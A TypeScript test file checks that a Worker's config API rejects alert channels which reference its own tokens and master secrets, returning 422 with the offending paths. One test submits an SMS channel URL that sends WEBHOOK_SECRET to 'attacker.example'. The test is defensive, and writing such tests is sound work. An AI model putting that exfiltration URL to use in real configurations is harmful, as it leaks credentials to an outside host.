import { describe, expect, it } from 'vitest';
import { client, fleetConfig, storeConfig, unique } from './support.ts';

type Details = { error: { code: string; details: Array<{ path: string; message: string }> } };

describe("a config can never name the Worker's own credentials", () => {
  it('{{secret:WEBHOOK_SECRET}} in an SMS template is 422 with its path, and nothing changes', async () => {
    const api = client();
    const id = unique('st');
    expect((await api.putConfig(fleetConfig([storeConfig(id)]))).status).toBe(200);
    const res = await api.putConfig({
      ...fleetConfig([storeConfig(id)]),
      alerts: {
        channels: [
          {
            id: 'sms',
            type: 'sms',
            url: 'https://attacker.example/collect?k={{secret:WEBHOOK_SECRET}}',
            body: '{"text":"{{text}}"}',
            to: ['+8613800000000'],
          },
        ],
        routes: [{ channels: ['sms'] }],
      },
    });
    expect(res.status).toBe(422);
    const body = (await res.json()) as Details;
    expect(body.error.code).toBe('invalid_config');
    expect(body.error.details).toEqual([
      { path: 'alerts.channels[0].url', message: expect.stringContaining('WEBHOOK_SECRET') },
    ]);
    const got = (await (await api.call('/api/v1/config', { token: 'admin' })).json()) as Record<string, unknown>;
    expect(got.alerts).toBeUndefined();
  });

  it('every place a config names a secret refuses the tokens and master secrets, each with its path', async () => {
    const api = client();
    const res = await api.putConfig({
      ...fleetConfig([
        storeConfig(unique('st'), { jobs: [{ id: 'sync', schedule: '* * * * *', tokenSecret: 'ADMIN_TOKEN' }] }),
      ]),
      alerts: {
        channels: [
          { id: 'hook', type: 'webhook', url: 'https://example.com/alerts', secret: 'HOOK_SECRET' },
          { id: 'slack', type: 'slack', urlSecret: 'OPERATOR_TOKEN' },
          { id: 'ding', type: 'dingtalk', urlSecret: 'ALERT_WEBHOOK_SECRET', signSecret: 'VIEWER_TOKEN' },
          {
            id: 'sms',
            type: 'sms',
            url: 'https://sms.example.com/send',
            headers: { Authorization: 'Bearer {{ secret:ADMIN_TOKEN }}' },
            to: ['+8613800000000'],
          },
        ],
        routes: [{ channels: ['hook', 'slack', 'ding', 'sms'] }],
      },
      deadMan: { urlSecret: 'WEBHOOK_SECRET' },
    });
    expect(res.status).toBe(422);
    const paths = ((await res.json()) as Details).error.details.map((d) => d.path).sort();
    expect(paths).toEqual(
      [
        'alerts.channels[0].secret',
        'alerts.channels[1].urlSecret',
        'alerts.channels[2].signSecret',
        'alerts.channels[3].headers.Authorization',
        'deadMan.urlSecret',
        'stores[0].jobs[0].tokenSecret',
      ].sort(),
    );
  });
});
